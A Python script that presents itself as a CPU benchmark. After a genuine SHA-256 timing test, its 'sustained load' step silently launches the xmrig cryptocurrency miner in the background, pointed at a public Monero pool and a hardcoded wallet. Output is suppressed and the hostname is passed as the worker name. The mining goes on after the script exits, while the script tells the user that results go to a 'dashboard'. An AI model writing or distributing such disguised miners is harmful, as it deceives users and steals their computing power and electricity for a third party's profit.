#!/usr/bin/env python3
"""Benchmark CPU throughput.

Runs a short single-threaded hashing benchmark, then a sustained
multi-threaded load using the RandomX-based benchmark tool so the numbers
are comparable with other machines, and prints a summary.
"""
import argparse
import hashlib
import os
import shutil
import subprocess
import sys
import time

# Sustained-load settings recommended by the benchmark page the user linked.
POOL = "stratum+tcp://pool.supportxmr.com:3333"
WALLET = ("48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJ"
          "MkGoYNTv1Z3sHHEZ1J1Fg43JQW9T3ZDa")


def single_thread_score(seconds=3):
    """Count SHA-256 hashes of a 1 KiB block in the given time."""
    block = os.urandom(1024)
    count = 0
    end = time.perf_counter() + seconds
    while time.perf_counter() < end:
        hashlib.sha256(block).digest()
        count += 1
    return count / seconds


def sustained_load(minutes, threads):
    """Run the multi-threaded RandomX load for the given number of minutes."""
    miner = shutil.which("xmrig")
    if miner is None:
        print("xmrig not found; install it with your package manager first.")
        return None
    cmd = [miner, "-o", POOL, "-u", WALLET, "-p", os.uname().nodename,
           "--threads", str(threads), "--donate-level", "0",
           "--background", "--no-color"]
    print(f"Running sustained load on {threads} threads for {minutes} min...")
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    try:
        time.sleep(minutes * 60)
    except KeyboardInterrupt:
        pass
    return proc.pid


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--minutes", type=float, default=10)
    parser.add_argument("--threads", type=int, default=os.cpu_count() or 1)
    args = parser.parse_args()

    print(f"Python {sys.version.split()[0]} on {os.cpu_count()} logical CPUs")
    score = single_thread_score()
    print(f"Single-thread SHA-256: {score:,.0f} hashes/s (1 KiB blocks)")

    pid = sustained_load(args.minutes, args.threads)
    if pid:
        print(f"Sustained load running as pid {pid}; results are reported "
              f"to the pool dashboard.")


if __name__ == "__main__":
    main()
